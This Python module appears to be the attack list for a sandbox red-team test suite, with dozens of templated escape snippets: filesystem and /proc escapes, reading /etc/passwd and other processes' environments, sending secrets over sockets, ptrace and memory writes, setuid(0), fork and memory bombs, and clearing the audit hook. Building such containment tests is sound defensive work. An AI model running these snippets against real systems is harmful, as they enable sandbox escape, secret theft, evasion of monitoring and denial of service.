"""The attacks of ``test_sandbox_redteam.py`` (each a ``string.Template`` over the host's facts)."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass
class Attack:
    name: str
    category: str
    code: str  # a string.Template over the host facts ($canary, $tcp, ...)
    expect: str = "contained"  # or "killed": the call must end in a ToolFailure (timeout, dead session)
    expect_rlimit: str | None = None  # where the rlimit mode (one process: fork refused) differs


A = Attack
ATTACKS = [
    # ---- filesystem escape: the canary dir is world-writable on the host
    A("write-canary", "fs", "open('$canary/pwned', 'w').write('x')"),
    A("write-secret-file", "fs", "open('$canary/secret.txt', 'a').write('x')"),
    A("read-secret-file", "fs", "print(open('$canary/secret.txt').read())"),
    A("listdir-canary", "fs", "import os; print(os.listdir('$canary'))"),
    A("dotdot-traversal", "fs", "open('/scratch/../../../../$canary/pwned', 'w').write('x')"),
    A("mkfifo", "fs", "import os; os.mkfifo('$canary/fifo')"),
    A("mknod", "fs", "import os, stat; os.mknod('$canary/node', stat.S_IFREG | 0o666)"),
    A("sqlite", "fs", "import sqlite3; sqlite3.connect('$canary/x.db').execute('create table t(x)')"),
    A("dbm", "fs", "import dbm.dumb as d; d.open('$canary/db', 'c')['k'] = 'v'"),
    A("dir-fd", "fs", "import os; fd = os.open('/', os.O_RDONLY); os.open('$canary_rel/pwned', os.O_CREAT | os.O_WRONLY, dir_fd=fd)"),
    A("symlink-out", "fs", "import os; os.symlink('$canary', '/scratch/l'); open('/scratch/l/pwned', 'w').write('x')"),
    A("hardlink-secret", "fs", "import os; os.link('$canary/secret.txt', '/scratch/h'); print(open('/scratch/h').read())"),
    A("proc-root-escape", "fs", "open('/proc/1/root$canary/pwned', 'w').write('x')"),
    A("proc-cwd-escape", "fs", "import os; print(os.listdir('/proc/self/cwd/../$canary_rel'))"),
    A("write-stdlib", "fs", "open('$stdlib_os', 'a').write('\\n# pwned')"),
    A("chmod-stdlib", "fs", "import os; os.chmod('$stdlib_os', 0o777)"),
    A("chroot", "fs", "import os; os.chroot('/tmp'); open('$canary/pwned', 'w').write('x')"),
    A("walk-root", "fs", "import os\nfor r, d, f in os.walk('/'):\n    if '$secret' in ''.join(f): print(r)\n"
      "    for n in f:\n        try: print(open(os.path.join(r, n), errors='ignore').read(4096))\n        except Exception: pass"),
    A("etc-passwd", "fs", "print(open('/etc/passwd').read())"),
    # ---- exec paths: spawning with or without the audited calls
    A("os-system", "exec", "import os; os.system('touch $canary/pwned')"),
    A("subprocess", "exec", "import subprocess; subprocess.run(['sh', '-c', 'touch $canary/pwned'])"),
    A("posixsubprocess-sh", "exec", "import _posixsubprocess, os, time; r, w = os.pipe()\n"
      "pid = _posixsubprocess.fork_exec(['/bin/sh', '-c', 'touch $canary/pwned'], [b'/bin/sh'], True, (w,), None, "
      "None, -1, -1, -1, -1, -1, -1, r, w, False, False, -1, None, None, None, -1, None, False)\n"
      "os.close(w); print(pid, os.read(r, 100)); time.sleep(0.3)"),
    A("posixsubprocess-python", "exec", "import _posixsubprocess, os, sys, time; r, w = os.pipe()\n"
      "pid = _posixsubprocess.fork_exec([sys.executable, '-c', \"import socket; socket.create_connection(('127.0.0.1', "
      "$tcp)); open('$canary/pwned', 'w')\"], [sys.executable.encode()], True, (w,), None, None, -1, -1, -1, -1, -1, "
      "-1, r, w, False, False, -1, None, None, None, -1, None, False)\nos.close(w); print('pid', pid, os.waitpid(pid, 0))"),
    A("execv-python", "exec", "import os, sys; os.execv(sys.executable, [sys.executable, '-c', "
      "\"import socket; socket.create_connection(('127.0.0.1', $tcp)).send(b'$secret')\"])", "killed"),
    A("posix-spawn", "exec", "import os, sys; os.posix_spawn(sys.executable, [sys.executable, '-c', "
      "\"open('$canary/pwned', 'w')\"], {}); import time; time.sleep(0.5)"),
    A("subinterpreter", "exec", "import _xxsubinterpreters as x; i = x.create(); x.run_string(i, "
      "\"open('$canary/pwned', 'w').write('x')\")"),
    A("testcapi-subinterp", "exec", "import _testcapi; _testcapi.run_in_subinterp("
      "\"import socket; socket.create_connection(('127.0.0.1', $tcp)).send(b'x')\")"),
    A("ctypes-renamed", "exec", "import importlib; c = importlib.import_module('_ctypes'); import ctypes as C; "
      "C.CDLL(None).system(b'touch $canary/pwned')"),
    # ---- network
    A("tcp-connect", "net", "import socket; socket.create_connection(('127.0.0.1', $tcp), 1).send(b'$secret')"),
    A("tcp-connect-ipv6", "net", "import socket; socket.create_connection(('::1', $tcp), 1).send(b'x')"),
    A("udp-sendto", "net", "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', $udp))"),
    A("udp-sendmsg", "net", "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b'x'], [], 0, ('127.0.0.1', $udp))"),
    A("tcp-fastopen", "net", "import socket; s = socket.socket(); s.sendto(b'x', socket.MSG_FASTOPEN, ('127.0.0.1', $tcp))"),
    A("listen-without-bind", "net", "import socket; s = socket.socket(); s.listen(); print('PORT', s.getsockname()[1])\n"
      "import time; time.sleep(1.0)"),
    A("dns-getaddrinfo", "net", "import socket; print(socket.getaddrinfo('unirl-canary.example', 80))"),
    A("dns-raw-udp", "net", "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto("
      "b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x01x\\x00\\x00\\x01\\x00\\x01', ('127.0.0.1', 53))"),
    A("unix-dgram-host", "net", "import socket; socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', '$unix')"),
    A("unix-abstract-host", "net", "import socket; socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', '\\0$abstract')"),
    A("netlink", "net", "import socket; socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)"),
    A("packet-raw", "net", "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"),
    A("ctypes-socket", "net", "import ctypes, struct; libc = ctypes.CDLL(None, use_errno=True)\n"
      "fd = libc.socket(2, 1, 0)\naddr = struct.pack('<HH4s8x', 2, __import__('socket').htons($tcp), bytes([127, 0, 0, 1]))\n"
      "assert fd >= 0, ctypes.get_errno(); libc.connect(fd, addr, 16); libc.send(fd, b'x', 1, 0)"),
    A("io-uring-setup", "net", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); p = ctypes.create_string_buffer(120)\n"
      "fd = libc.syscall(425, 8, p); assert fd >= 0, ctypes.get_errno()\n"
      "import socket; socket.create_connection(('127.0.0.1', $tcp), 1)"),
    # ---- IPC
    A("sysv-shm", "ipc", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); libc.shmat.restype = ctypes.c_void_p\n"
      "i = libc.shmget($shmkey, 0, 0); assert i >= 0, ctypes.get_errno(); p = libc.shmat(i, None, 0); "
      "ctypes.memmove(p, b'PWNED', 5)"),
    A("posix-shm", "ipc", "open('/dev/shm/$shmname', 'w').write('PWNED')"),
    A("kill-host-victim", "ipc", "import os, signal; os.kill($victim, signal.SIGKILL)"),
    A("kill-all", "ipc", "import os, signal, time\nif os.fork() == 0:\n    time.sleep(10)\nos.kill(-1, signal.SIGKILL)"),
    A("ptrace-attach", "ipc", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
      "assert libc.ptrace(16, $victim, 0, 0) == 0, ctypes.get_errno(); libc.kill($victim, 9)"),
    A("process-vm-writev", "ipc", "import ctypes; libc = ctypes.CDLL(None, use_errno=True)\n"
      "buf = ctypes.create_string_buffer(b'PWNED'); iov = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 5)\n"
      "assert libc.process_vm_writev($victim, iov, 1, iov, 1, 0) >= 0, ctypes.get_errno()"),
    A("keyctl", "ipc", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
      "assert libc.syscall(248, b'user', b'unirl', b'$secret', 5, -4) >= 0, ctypes.get_errno()"),
    A("bpf", "ipc", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
      "assert libc.syscall(321, 0, 0, 0) >= 0, ctypes.get_errno()"),
    A("perf-event-open", "ipc", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
      "attr = ctypes.create_string_buffer(128); assert libc.syscall(298, attr, -1, 0, -1, 0) >= 0, ctypes.get_errno()"),
    A("mount-tmpfs-over", "ipc", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
      "assert libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0, ctypes.get_errno()"),
    A("unshare-user", "ipc", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
      "assert libc.unshare(0x10000000) == 0, ctypes.get_errno(); open('$canary/pwned', 'w')"),
    A("setns", "ipc", "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); fd = os.open('/proc/1/ns/net', os.O_RDONLY); "
      "assert libc.setns(fd, 0) == 0, ctypes.get_errno()"),
    # ---- other sessions
    A("read-other-session", "sessions", "import os\nfor d in ('/scratch', '/tmp', '/dev/shm', '$canary'):\n"
      "    try:\n        for n in os.listdir(d): print(d, n, open(os.path.join(d, n)).read())\n    except OSError: pass"),
    A("kill-other-session", "sessions", "import os, signal; os.kill($other_pid, signal.SIGKILL)"),
    A("other-session-proc", "sessions", "print(open('/proc/$other_pid/environ').read())"),
    # ---- /proc
    A("proc-trainer-cmdline", "proc", "import os\nfor p in os.listdir('/proc'):\n    if p.isdigit():\n"
      "        print(open(f'/proc/{p}/cmdline', 'rb').read(), open(f'/proc/{p}/environ', 'rb').read())"),
    A("proc-host-pid", "proc", "print(open('/proc/$host_secret_pid/cmdline').read())"),
    A("proc-core-pattern", "proc", "open('/proc/sys/kernel/core_pattern', 'w').write('|/tmp/pwn')"),
    A("proc-sysrq", "proc", "open('/proc/sysrq-trigger', 'w').write('h')"),
    A("proc-kcore", "proc", "print(open('/proc/kcore', 'rb').read(64))"),
    A("proc-1-exe", "proc", "import hashlib; print(hashlib.sha256(open('/proc/1/exe', 'rb').read()).hexdigest())"),
    # ---- memory and processes (the host measures the session's cgroup)
    A("fork-bomb", "exhaustion", "import os\nfor _ in range(10000):\n    os.fork()"),
    A("thread-bomb", "exhaustion", "import threading, time\nfor _ in range(10000):\n"
      "    threading.Thread(target=time.sleep, args=(5,), daemon=True).start()"),
    A("memory-forked", "exhaustion", "import os, time\nfor _ in range(6):\n    if os.fork() == 0:\n"
      "        b = bytearray(200 * 2**20); time.sleep(2); os._exit(0)\ntime.sleep(3)", "killed", "contained"),
    A("memory-10g", "exhaustion", "b = bytearray(10 * 2**30)"),
    A("tmpfs-fill", "exhaustion", "for d in ('/tmp', '/dev/shm', '/scratch'):\n"
      "    with open(d + '/fill', 'wb') as f:\n        for _ in range(400): f.write(b'x' * 2**20)"),
    A("fd-exhaustion", "exhaustion", "fs = [open('/dev/null') for _ in range(100000)]"),
    # ---- timeouts with blocked signals (the parent kills the pid namespace)
    A("sigalrm-handler", "timeout", "import signal, time\nsignal.signal(signal.SIGALRM, lambda *a: time.sleep(100))\n"
      "signal.alarm(1)\nwhile True: pass", "killed"),
    A("sigmask-all", "timeout", "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals) - "
      "{signal.SIGKILL, signal.SIGSTOP})\nwhile True: pass", "killed"),
    A("ignore-term", "timeout", "import signal, time\nfor s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):\n"
      "    signal.signal(s, signal.SIG_IGN)\ntime.sleep(100)", "killed"),
    A("orphan-setsid", "timeout", "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
      "        time.sleep(600)\n    os._exit(0)\nprint('spawned')"),
    A("kill-own-init", "timeout", "import os; os.kill(1, 9); import time; time.sleep(100)", "killed"),
    A("stop-self", "timeout", "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)", "killed"),
    # ---- forged replies and the output cap
    A("forge-reply-fds", "forge", "import os, struct\nframe = b'UNIRLv2\\n' + struct.pack('>IIB', 2, 6, 0) + b'FORGED'\n"
      "for fd in range(3, 10):\n    try: os.write(fd, frame)\n    except OSError: pass"),
    A("forge-huge-length", "forge", "import os, struct\nfor fd in range(3, 10):\n"
      "    try: os.write(fd, b'UNIRLv2\\n' + struct.pack('>IIB', 1, 2**31, 0))\n    except OSError: pass\n"
      "import time; time.sleep(3)", "killed"),
    A("lift-output-cap", "forge", "import __main__; __main__.CAP = 10**9; print('y' * 10**7)"),
    A("forge-then-exit", "forge", "import os, struct\nfor fd in range(3, 10):\n"
      "    try: os.write(fd, b'UNIRLv2\\n' + struct.pack('>IIB', 1, 6, 0) + b'FORGED')\n    except OSError: pass\n"
      "os._exit(0)"),
    # ---- the audit hook removed, then the attack
    A("blind-guard-then-connect", "audit", "import __main__, gc; __main__._REFUSED.clear()\n"
      "import socket; socket.create_connection(('127.0.0.1', $tcp), 1).send(b'x')"),
    A("blind-guard-then-system", "audit", "import __main__; __main__._guard.__code__ = (lambda e, a: None).__code__\n"
      "import os; os.system('touch $canary/pwned')"),
    # ---- ctypes: raw syscalls
    A("ctypes-open-canary", "ctypes", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
      "assert libc.open(b'$canary/pwned', 0o101, 0o666) >= 0, ctypes.get_errno()"),
    A("ctypes-setuid-root", "ctypes", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
      "assert libc.setuid(0) == 0, ctypes.get_errno(); open('$canary/pwned', 'w')"),
    A("ctypes-clone-newuser", "ctypes", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
      "assert libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0) >= 0, ctypes.get_errno()"),
    A("ctypes-pivot-root", "ctypes", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
      "assert libc.syscall(155, b'/tmp', b'/tmp') == 0, ctypes.get_errno()"),
    A("ctypes-segfault", "ctypes", "import ctypes; ctypes.string_at(0)", "killed"),
    # ---- issue 66: the session's own pid 1, uid quotas, leftovers between calls
    A("proc-1-mem", "proc", "open('/proc/1/mem', 'r+b').write(b'x')"),
    A("signal-own-init", "ipc", "import os, signal\nfor s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, "
      "signal.SIGUSR1, signal.SIGCHLD, signal.SIGPIPE): os.kill(1, s)\nimport time; time.sleep(0.2); print('alive')"),
    A("raise-rlimits", "exhaustion", "import resource\nfor r in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, "
      "resource.RLIMIT_NOFILE, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):\n"
      "    try: resource.setrlimit(r, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n"
      "    except (ValueError, OSError) as e: print(r, e)\nb = bytearray(2**31)"),
    A("inotify-exhaust", "exhaustion", "import ctypes; libc = ctypes.CDLL(None, use_errno=True)\n"
      "fds = [libc.inotify_init() for _ in range(1000)]; print(sum(f >= 0 for f in fds))"),
    A("mqueue-exhaust", "exhaustion", "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True)\n"
      "print(sum(libc.mq_open(f'/q{i}'.encode(), os.O_CREAT | os.O_RDWR, 0o600, None) >= 0 for i in range(1000)))"),
    A("subreaper-orphans", "timeout", "import ctypes, os, time; ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)\n"
      "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        while True: pass\n    os._exit(0)\n"
      "time.sleep(0.2); print('left')"),
    A("leftover-fork-chain", "timeout", "import os\nif os.fork() == 0:\n    while True:\n        if os.fork(): os._exit(0)\n"
      "print('left')"),
]
